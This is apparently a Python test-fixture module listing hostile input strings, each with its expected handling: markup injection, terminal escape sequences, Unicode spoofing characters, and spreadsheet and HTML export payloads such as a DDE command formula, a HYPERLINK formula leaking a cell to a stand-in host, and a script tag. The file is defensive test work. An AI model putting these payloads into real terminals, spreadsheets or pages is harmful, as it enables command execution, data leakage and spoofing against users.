"""The hostile strings B01 to B59, as data: what someone may type, paste or import into any field.

Each has its code, the text, and what entering it into a field of many lines does: "lit" (stored to
the letter), "refused", or "changed to " and the text that is stored. Every surface must also show
each of them, refused ones too, without a crash and without a control character: a plan file may
hold them all the same. B30, B58 and B59 are about pipes and files and have no text.
"""

from __future__ import annotations

from typing import NamedTuple

_CHANGED = "changed to "


class Hostile(NamedTuple):
    """One string: its code, the text and its fate at entry."""

    code: str
    text: str
    fate: str = "lit"

    @property
    def stored(self) -> str | None:
        """What stands in the plan after entering it; None when it is refused."""
        if self.fate == "refused":
            return None
        return self.text if self.fate == "lit" else self.fate.removeprefix(_CHANGED)


MARKUP = (
    Hostile("B01", "[bold]x[/bold]"),
    Hostile("B02", "[/]"),
    Hostile("B03", "[/bold]"),
    Hostile("B04", "x [/ y"),
    Hostile("B05", "["),
    Hostile("B06", "[0] item"),
    Hostile("B07", "[#ff0]hi"),
    Hostile("B08", "[@click=app.quit]Quit[/]"),
    Hostile("B09", "[link=file:///c:/x.exe]here[/link]"),
    Hostile("B10", '[link="http://evil"]a[/link]'),
    Hostile("B11", '{"a":[true,false]}'),
    Hostile("B12", "[[b]]"),
    Hostile("B13", "\\[b]x\\"),
    Hostile("B14", "[$error]x"),
    Hostile("B15", ":smile:"),
    Hostile("B16", "$name %(x)s {0} {x!r}"),
    Hostile("B17", "**b** <b>"),
)

CONTROL = (
    Hostile("B18", "good\x1b[2Jevil", "refused"),
    Hostile("B19", "\x1b]0;title\x07", "refused"),
    Hostile("B20", "\x1b]52;c;cHduZWQ=\x1b\\", "refused"),
    Hostile("B21", "\x1b]8;;http://e\x1b\\l", "refused"),
    Hostile("B22", "\x9b31m", "refused"),
    Hostile("B23", "be\0fore", "refused"),
    Hostile("B24", "ring\a", "refused"),
    Hostile("B24", "back\bspace", "refused"),
    Hostile("B25", "good\revil", "changed to good\nevil"),
    Hostile("B25", "good\r\nevil", "changed to good\nevil"),
    Hostile("B26", "de\x7fl", "refused"),
    Hostile("B27", "\x1bP later text", "refused"),
    Hostile("B27", "\x1b_ later text", "refused"),
    Hostile("B28", "a\tb"),
    Hostile("B29", "one\u2028two\u2029three", "changed to one\ntwo\nthree"),
)

UNICODE = (
    Hostile("B31", "\u202egpj.exe", "refused"),
    Hostile("B32", "a\u2066b\u2069", "refused"),
    Hostile("B32", "a\u2067b\u2068c", "refused"),
    Hostile("B33", "a\u200bb", "changed to ab"),
    Hostile("B34", "Zoe\u0308", "changed to Zoë"),
    Hostile("B35", "P\u0430rk"),
    Hostile("B36", "\U0001f468\u200d\U0001f469\u200d\U0001f467\u200d\U0001f466 family"),
    Hostile("B37", "a" + "\u0301" * 200, "refused"),
    Hostile("B38", "half \ud800 gone", "refused"),
    Hostile("B38", "half \udfff gone", "refused"),
    Hostile("B39", "none \ufffe", "refused"),
    Hostile("B39", "none \uffff", "refused"),
    Hostile("B40", "\ufeffstart", "changed to start"),
    Hostile("B41", "محمد \u200fعلي"),
    Hostile("B41", "שרה כהן"),
    Hostile("B42", "２０２６"),
    Hostile("B43", "İstanbul Straße"),
    Hostile("B44", "한국어 텍스트 漢字漢字漢字"),
    Hostile("B45", "   \t \n", "refused"),
    Hostile("B45", "\u200b\u200b", "refused"),
)

EXPORT = (
    Hostile("B46", "=1+1"),
    Hostile("B47", "+44 1962 840222"),
    Hostile("B48", "-5"),
    Hostile("B49", "@SUM(A1)"),
    Hostile("B50", "=cmd|' /C calc'!A0"),
    Hostile("B51", "\t=1", "changed to =1"),
    Hostile("B51", " =1", "changed to =1"),
    Hostile("B52", "＝1"),
    Hostile("B53", '=HYPERLINK("http://e/?"&A1)'),
    Hostile("B54", "x" * 40_000, "refused"),
    Hostile("B55", "<script>alert(1)</script>"),
    Hostile("B55", '" onmouseover='),
    Hostile("B56", "]]> &x;"),
    Hostile("B57", "a|b\nc"),
)

HOSTILE: tuple[Hostile, ...] = (*MARKUP, *CONTROL, *UNICODE, *EXPORT)
"""All of them, in the order of their codes."""

ENTERED: tuple[Hostile, ...] = tuple(x for x in HOSTILE if x.stored is not None)
"""Those that a person can enter: what a plan made by hand may hold."""


def name(hostile: Hostile) -> str:
    """A name for a parametrised test that is safe to print."""
    return f"{hostile.code}-{HOSTILE.index(hostile)}"
